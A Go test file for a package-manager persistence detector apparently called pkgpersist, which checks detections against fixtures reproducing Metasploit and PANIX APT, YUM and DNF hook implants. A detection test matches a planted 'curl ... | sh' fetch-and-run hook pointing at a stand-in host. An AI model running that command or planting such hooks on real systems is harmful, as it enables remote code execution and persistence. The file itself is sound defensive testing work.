package queries_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"

	"github.com/pkgpersist/pkgpersist/collector/engine"
	"github.com/pkgpersist/pkgpersist/collector/querydef"
	"github.com/pkgpersist/pkgpersist/collector/tables"
	"github.com/pkgpersist/pkgpersist/queries"
)

// roots the queries run on; each (query, root) has a golden file.
var roots = []string{"planted", "debian-real", "dnf4", "dnf4-override", "dnf5", "yum", "dpkg", "dnf-actions", "panix-apt", "msf-apt", "panix-yum", "panix-dnf", "msf-yum", "panix-dpkg-malpkg"}

// volatile columns depend on the checkout (times, inodes, the user running
// the tests) and are left out of the golden files.
var volatile = regexp.MustCompile(`time|^modified$|inode|device|uid|gid|owner|block_size|hard_links`)

const updateEnv = "PKGPERSIST_UPDATE_GOLDEN"

// TestQueriesGolden runs every query of queries/ on every fixture root in
// the embedded engine and compares the rows with the golden files
// (PKGPERSIST_UPDATE_GOLDEN=1 rewrites them). A query that does not parse
// or run fails here.
func TestQueriesGolden(t *testing.T) {
	qs, err := querydef.Load(queries.FS)
	if err != nil {
		t.Fatal(err)
	}
	if len(qs) < 8 {
		t.Fatalf("only %d queries", len(qs))
	}
	for _, root := range roots {
		e, err := engine.New(tables.Engine(), filepath.Join("../test/roots", root))
		if err != nil {
			t.Fatal(err)
		}
		for _, q := range qs {
			res, err := e.Query(context.Background(), q.SQL)
			if err != nil {
				t.Errorf("%s on %s: %v", q.ID, root, err)
				continue
			}
			var lines []string
			for _, row := range res.Rows {
				obj := map[string]string{}
				for i, c := range res.Columns {
					if !volatile.MatchString(c) {
						obj[c] = row[i]
					}
				}
				b, _ := json.Marshal(obj)
				lines = append(lines, string(b))
			}
			sort.Strings(lines)
			got := strings.Join(lines, "\n") + "\n"
			golden := filepath.Join("testdata/golden", q.ID, root+".jsonl")
			if os.Getenv(updateEnv) != "" {
				if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
				continue
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Errorf("%s on %s: no golden file (run with %s=1): %v", q.ID, root, updateEnv, err)
				continue
			}
			if string(want) != got {
				t.Errorf("%s on %s differs from %s:\n got:\n%s\nwant:\n%s", q.ID, root, golden, got, want)
			}
		}
		e.Close()
	}
}

// TestDetectionsFire: on the planted root each detection about hooks finds
// the planted entries.
func TestDetectionsFire(t *testing.T) {
	e, err := engine.New(tables.Engine(), "../test/roots/planted")
	if err != nil {
		t.Fatal(err)
	}
	defer e.Close()
	qs, _ := querydef.Load(queries.FS)
	for _, q := range qs {
		if q.ID != "unowned-hooks" && q.ID != "download-in-hooks" {
			continue
		}
		res, err := e.Query(context.Background(), q.SQL)
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, r := range res.Rows {
			found = found || strings.Contains(strings.Join(r, " "), "curl -fsS http://203.0.113.7/p | sh")
		}
		if !found {
			t.Errorf("%s misses the planted curl | sh hook: %v", q.ID, res.Rows)
		}
	}
}

// TestEventQueries runs the event queries over sample events in temporary
// tables that shadow the engine's empty evented tables.
func TestEventQueries(t *testing.T) {
	e, err := engine.New(tables.Engine(), "../test/roots/planted")
	if err != nil {
		t.Fatal(err)
	}
	defer e.Close()
	ctx := context.Background()
	if err := e.Exec(ctx, `CREATE TEMP TABLE process_events (pid, path, cmdline, cwd, uid, time, parent);
		INSERT INTO process_events VALUES
		 (10, '/usr/bin/apt-get', 'apt-get install vim', '/', 0, 1, 1),
		 (11, '/usr/bin/dpkg', 'dpkg --status-fd 23 --unpack --auto-deconfigure /var/cache/apt/archives/vim.deb', '/', 0, 2, 10),
		 (12, '/bin/sh', 'sh -c /usr/lib/needrestart/apt-pinvoke', '/', 0, 3, 10),
		 (20, '/usr/sbin/nginx', 'nginx: worker', '/', 33, 4, 1),
		 (21, '/usr/bin/rpm', 'rpm -ivh /tmp/x.rpm', '/tmp', 33, 5, 20),
		 (22, '/usr/bin/rpm', 'rpm -q bash', '/', 0, 6, 1),
		 (23, '/usr/bin/rpm', 'rpm --upgrade /tmp/y.rpm', '/', 0, 7, 1),
		 (24, '/usr/bin/dpkg', 'dpkg -l', '/', 0, 8, 1),
		 (25, '/usr/bin/dpkg', 'dpkg -i /tmp/z.deb', '/', 0, 9, 20);
		CREATE TEMP TABLE file_events (target_path, category, action, uid, gid, mode, size, sha256, time);
		INSERT INTO file_events VALUES
		 ('/etc/apt/apt.conf.d/99x', 'package_manager', 'CREATED', 0, 0, '0644', 10, 'x', 1),
		 ('/etc/passwd', 'other', 'UPDATED', 0, 0, '0644', 10, 'y', 2);
		CREATE TEMP TABLE process_file_events (operation, executable, path, dest_path, pid, ppid, uid, time);
		INSERT INTO process_file_events VALUES
		 ('write', '/usr/bin/python3', '/etc/apt/apt.conf.d/99evil', '', 30, 1, 0, 1),
		 ('write', '/usr/bin/vim', '/usr/lib/python3/dist-packages/dnf-plugins/x.py', '', 31, 1, 0, 2),
		 ('write', '/usr/bin/vim', '/etc/hosts', '', 32, 1, 0, 3);`); err != nil {
		t.Fatal(err)
	}
	qs, err := querydef.Load(queries.FS)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{
		"pkg-installs":   "11 21 23 25",
		"pm-children":    "11 12",
		"pm-file-events": "/etc/apt/apt.conf.d/99x",
		// first column: operation
		"pm-process-file-events": "write write",
	}
	for _, q := range qs {
		w, ok := want[q.ID]
		if !ok {
			continue
		}
		res, err := e.Query(ctx, q.SQL)
		if err != nil {
			t.Fatalf("%s: %v", q.ID, err)
		}
		var got []string
		for _, r := range res.Rows {
			got = append(got, r[0])
		}
		sort.Strings(got)
		if strings.Join(got, " ") != w {
			t.Errorf("%s: %v, want %s", q.ID, got, w)
		}
	}
}

// TestTargetDetections: on the roots that reproduce Metasploit's and
// PANIX's APT, YUM and DNF persistence, hook-runs-unowned finds the planted
// payload (for a plugin, through the command its code runs) and nothing
// else, download-in-hooks the hook that feeds a TCP connection to bash, and
// on real Debian hooks neither finds anything (test/roots/*.expected.md).
func TestTargetDetections(t *testing.T) {
	qs, err := querydef.Load(queries.FS)
	if err != nil {
		t.Fatal(err)
	}
	sql := map[string]string{}
	for _, q := range qs {
		sql[q.ID] = q.SQL
	}
	cases := []struct {
		root, query, col string
		want             []string
	}{
		{"msf-apt", "hook-runs-unowned", "target", []string{"/usr/local/bin/Xk3d9Rz"}},
		{"msf-apt", "download-in-hooks", "path", nil},
		{"panix-apt", "hook-runs-unowned", "target", nil},
		{"panix-apt", "download-in-hooks", "path", []string{"/etc/apt/apt.conf.d/01python-upgrades"}},
		// the YUM and DNF roots have no rpm database: every plugin module
		// is unowned there, and the payload its command runs too
		{"panix-yum", "hook-runs-unowned", "target", []string{"/usr/lib/yum-plugins/fastestmirror.py", "/usr/lib/yum-plugins/yumcon.py", "/usr/lib/yumcon"}},
		{"panix-dnf", "hook-runs-unowned", "target", []string{"/usr/lib/python3.9/site-packages/dnf-plugins/dnfcon.py", "/usr/lib/python3.9/site-packages/dnfcon", "/usr/lib/python3.9/site-packages/dnf-plugins/notify.py"}},
		{"msf-yum", "hook-runs-unowned", "target", []string{"/usr/lib/yum-plugins/fastestmirror.py", "/usr/local/bin/Hq3vXk9"}},
		{"debian-real", "hook-runs-unowned", "target", nil},
		{"debian-real", "download-in-hooks", "path", nil},
	}
	for _, c := range cases {
		e, err := engine.New(tables.Engine(), filepath.Join("../test/roots", c.root))
		if err != nil {
			t.Fatal(err)
		}
		res, err := e.Query(context.Background(), sql[c.query])
		e.Close()
		if err != nil {
			t.Fatalf("%s: %v", c.query, err)
		}
		var got []string
		for _, row := range res.Rows {
			for i, col := range res.Columns {
				if col == c.col {
					got = append(got, row[i])
				}
			}
		}
		if strings.Join(got, " ") != strings.Join(c.want, " ") {
			t.Errorf("%s on %s: %q, want %q", c.query, c.root, got, c.want)
		}
	}
}
